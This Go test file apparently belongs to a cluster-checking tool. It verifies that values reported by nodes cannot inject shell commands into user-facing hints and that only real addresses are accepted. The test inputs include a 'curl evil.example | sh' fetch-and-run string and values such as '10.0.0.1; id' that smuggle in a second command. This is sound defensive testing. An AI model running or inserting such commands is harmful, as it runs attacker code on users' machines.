package check

import (
	"strings"
	"testing"
)

// A hint is dsbuild's own advice, which a user may copy into a shell: no node can put a command there.
func TestHintsHoldNoWordsOfNodes(t *testing.T) {
	const evil = "eth0; curl evil.example | sh #"
	for name, c := range map[string]struct {
		change func(r *run)
		judge  func(r *run)
	}{
		"a folder without room": {func(r *run) {
			r.opt.MinFree = 1 << 30
			r.members[1].survey.Disks = map[string]part[room]{"TMPDIR": known(room{Path: evil, Free: 1, Inodes: -1})}
		}, func(r *run) { r.checkDisks(t.Context()) }},
		"a folder without inodes": {func(r *run) {
			r.members[1].survey.Disks = map[string]part[room]{"TMPDIR": known(room{Path: evil, Free: 1 << 40, Inodes: 3})}
		}, func(r *run) { r.checkDisks(t.Context()) }},
		"a folder that it cannot write": {func(r *run) {
			r.members[1].survey.Disks = map[string]part[room]{"TMPDIR": known(room{Path: evil, Free: 1 << 40, Inodes: -1, Unwritable: evil})}
		}, func(r *run) { r.checkDisks(t.Context()) }},
		"an interface": {func(r *run) { r.members[1].route.Interface = evil }, func(r *run) { r.judgeInterfaces() }},
		"an interface beside a variable": {func(r *run) {
			r.members[1].route.Interface = evil
			(*r.members[1].survey.Variables.OK)["NCCL_SOCKET_IFNAME"] = "ib"
		}, func(r *run) { r.judgeInterfaces() }},
		"an interface that most have": {func(r *run) {
			for _, m := range r.members[1:] {
				m.route.Interface = evil
			}
		}, func(r *run) { r.judgeInterfaces() }},
		"another address": {func(r *run) {
			r.members[1].survey.Master = known(resolved{evil, []string{evil}, evil})
			r.members[1].survey.Host = known(resolved{evil, nil, evil})
		}, func(r *run) { r.checkNames(t.Context()) }},
		"a variable": {func(r *run) {
			(*r.members[1].survey.Variables.OK)["MASTER_ADDR"] = evil
			(*r.members[1].survey.Variables.OK)["NCCL_ALGO"] = evil
		}, func(r *run) { r.checkVariables(t.Context()) }},
	} {
		r := ready(4)
		c.change(r)
		c.judge(r)
		found := 0
		for _, m := range r.members {
			for _, f := range m.findings {
				found++
				if strings.Contains(f.Hint, "curl") {
					t.Errorf("%s: the hint is %s", name, f.Hint)
				}
				if strings.ContainsAny(f.Text, "\n\x1b") {
					t.Errorf("%s: the text is %q", name, f.Text)
				}
			}
		}
		if found == 0 {
			t.Errorf("%s: nothing was found", name)
		}
	}
}

// Nodes get a node's word about an address only if it is one.
func TestOtherNodesGetOnlyAddresses(t *testing.T) {
	for _, evil := range []string{"evil.example", "10.0.0.1; id", "fe80::1%$(id)", "fe80::1%a b", ""} {
		r := ready(2)
		m := r.members[1]
		m.survey.Master = known(resolved{"n1", []string{evil, "10.0.0.9"}, ""})
		m.survey.Interfaces = known([]nic{{"eth0", evil}, {"eth1", "10.0.0.2"}})
		if got, ok := r.masterSeenBy(m); !ok || got != "10.0.0.9" {
			t.Errorf("the master's address: %q, %v", got, ok)
		}
		if got := m.reachableAddresses(); len(got) != 1 || got[0] != "10.0.0.2" {
			t.Errorf("the own addresses: %q", got)
		}
	}
	for _, good := range []string{"10.0.0.1", "fd00::1", "fe80::1%eth0.100"} {
		if !isAddress(good) {
			t.Errorf("%s is refused", good)
		}
	}
}
